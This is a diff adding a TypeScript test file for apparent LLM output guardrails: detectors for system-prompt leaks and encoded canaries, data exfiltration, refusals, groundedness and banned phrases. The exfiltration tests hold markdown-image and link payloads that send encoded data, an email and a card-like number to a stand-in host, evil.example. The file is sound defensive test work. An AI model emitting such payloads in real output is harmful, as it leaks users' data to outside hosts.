@@ -1,0 +1,111 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import {
+  bannedSubstringsDetector,
+  exfiltrationDetector,
+  groundednessDetector,
+  groundednessScore,
+  promptLeakDetector,
+  refusalDetector,
+} from '../../src/detectors/index.ts';
+
+describe('output-side detectors', () => {
+  const leakConfig = promptLeakDetector.configSchema.parse({});
+  const canary = 'GS-CANARY-7f3a91c2';
+
+  it('prompt_leak finds the canary, also encoded or spaced out, and long system-prompt runs', () => {
+    const kinds = (text: string, systemPrompt?: string): string[] =>
+      promptLeakDetector
+        .detect(text, leakConfig, {
+          stage: 'output',
+          canary,
+          ...(systemPrompt === undefined ? {} : { systemPrompt }),
+        })
+        .map((finding) => finding.kind);
+    assert.deepEqual(kinds(`My instructions include ${canary}.`), ['canary']);
+    assert.deepEqual(kinds(`encoded: ${Buffer.from(canary).toString('base64')}`), ['canary']);
+    assert.deepEqual(kinds('g s - c a n a r y - 7 f 3 a 9 1 c 2'), ['canary']);
+    const systemPrompt =
+      'You are the Acme support assistant. Never discuss pricing with customers under any circumstances.';
+    assert.deepEqual(
+      kinds(
+        'Sure! I was told: never discuss pricing with customers under any circumstances.',
+        systemPrompt,
+      ),
+      ['system_prompt'],
+    );
+    assert.deepEqual(kinds('Our pricing page has the details.', systemPrompt), []);
+  });
+
+  it('exfiltration flags auto-loading images and data-carrying links to unknown domains', () => {
+    const config = exfiltrationDetector.configSchema.parse({ allowDomains: ['acme.com'] });
+    const kinds = (text: string): string[] =>
+      exfiltrationDetector.detect(text, config, { stage: 'output' }).map((finding) => finding.kind);
+    assert.deepEqual(kinds('![logo](https://evil.example/p.png?q=c2VjcmV0IGRhdGEgaGVyZQ)'), [
+      'markdown_image',
+    ]);
+    assert.deepEqual(
+      kinds('<img src="https://evil.example/x.gif?d=jane%40acme.com-4111111111111111">'),
+      ['html_resource'],
+    );
+    assert.deepEqual(kinds('[click](https://evil.example/collect?data=customer-list-2024-q3)'), [
+      'link_with_data',
+    ]);
+    assert.deepEqual(
+      kinds(
+        'See [docs](https://docs.acme.com/guide?page=installation-guide) and ![x](https://cdn.acme.com/a.png)',
+      ),
+      [],
+    );
+    assert.deepEqual(kinds('Read [the guide](https://example.org/guide).'), []);
+  });
+
+  it('refusal recognises declining answers in four languages, not helpful ones', () => {
+    const refused = (text: string): boolean =>
+      refusalDetector.detect(text, {}, { stage: 'output' }).length > 0;
+    assert.equal(refused("I'm sorry, but I can't help with that request."), true);
+    assert.equal(refused('I cannot provide instructions for making weapons.'), true);
+    assert.equal(refused('Je ne peux pas vous aider avec cela.'), true);
+    assert.equal(refused('Ich kann dir dabei nicht helfen.'), true);
+    assert.equal(refused('No puedo ayudar con eso.'), true);
+    assert.equal(refused('To stop a Python process, run kill with its pid.'), false);
+  });
+
+  it('groundedness scores answers against the retrieved context', () => {
+    const context = [
+      'The Zurich office opens at 8:00 and closes at 17:30. Badges are issued by reception on level 2.',
+    ];
+    assert.equal(
+      groundednessScore(
+        'The Zurich office opens at 8:00. Reception on level 2 issues badges.',
+        context,
+      ),
+      1,
+    );
+    assert.equal(
+      groundednessScore(
+        'The Paris office has a rooftop garden with beehives and a cafeteria.',
+        context,
+      ),
+      0,
+    );
+    const config = groundednessDetector.configSchema.parse({});
+    assert.equal(
+      groundednessDetector.detect('The Paris office has a rooftop garden with beehives.', config, {
+        stage: 'output',
+        context,
+      }).length,
+      1,
+    );
+    assert.equal(groundednessDetector.detect('anything', config, { stage: 'output' }).length, 0);
+  });
+
+  it('banned_substrings matches listed phrases case-, width- and leetspeak-insensitively', () => {
+    const config = bannedSubstringsDetector.configSchema.parse({ substrings: ['Project Falcon'] });
+    const hits = (text: string): number =>
+      bannedSubstringsDetector.detect(text, config, { stage: 'input' }).length;
+    assert.equal(hits('what is PROJECT ＦＡＬＣＯＮ about?'), 1);
+    assert.equal(hits('tell me about pr0ject f4lc0n'), 1);
+    assert.equal(hits('falcons are birds'), 0);
+  });
+});
